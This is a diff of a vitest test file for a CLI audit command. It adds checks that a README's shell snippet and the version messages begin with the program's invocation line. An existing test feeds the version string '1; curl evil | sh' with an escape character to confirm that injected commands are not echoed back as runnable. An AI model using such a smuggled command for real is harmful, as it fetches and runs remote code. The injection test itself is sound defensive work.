@@ -4,7 +4,7 @@ import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { describe, expect, onTestFinished, test } from 'vitest';
 import { BOUNDS, type Bounds } from '../../../../src/commands/audit/apart.ts';
-import { checkVersion, readSource } from '../../../../src/commands/audit/source.ts';
+import { checkVersion, programLine, readSource } from '../../../../src/commands/audit/source.ts';
 import { readSourceApart } from '../../../../src/commands/audit/source_process.ts';
 import type { Omitted } from '../../../../src/commands/audit/tree.ts';
 import { created, FRAMEWORK, framework, type Packages, ROOT } from './applications.ts';
@@ -104,6 +104,11 @@ describe('an application in a repository of its own', () => {
     expect(message('9.8.7-experimental.abc')).toMatch(
       /^FRAMEWORK_VERSION: .* npm exec --package=<folder>\/sui-enclave-cli-9\.8\.7-experimental\.abc\.tgz --package/,
     );
+    // The page begins with it.
+    const page = readFileSync(join(ROOT, 'src/commands/audit/README.md'), 'utf8');
+    const [, code] = /```sh\n([\s\S]*?)\n```/.exec(page) ?? [];
+    expect(code?.startsWith(`${programLine('<version>')} <config id> `)).toBe(true);
+    expect(message('9.8.7')).toContain(programLine('9.8.7'));
     // What a shell would run is not repeated as a command.
     const hostile = message('1; curl evil | sh\u001b');
     expect([hostile.includes('npm exec'), hostile.includes('\u001b')]).toEqual([false, false]);
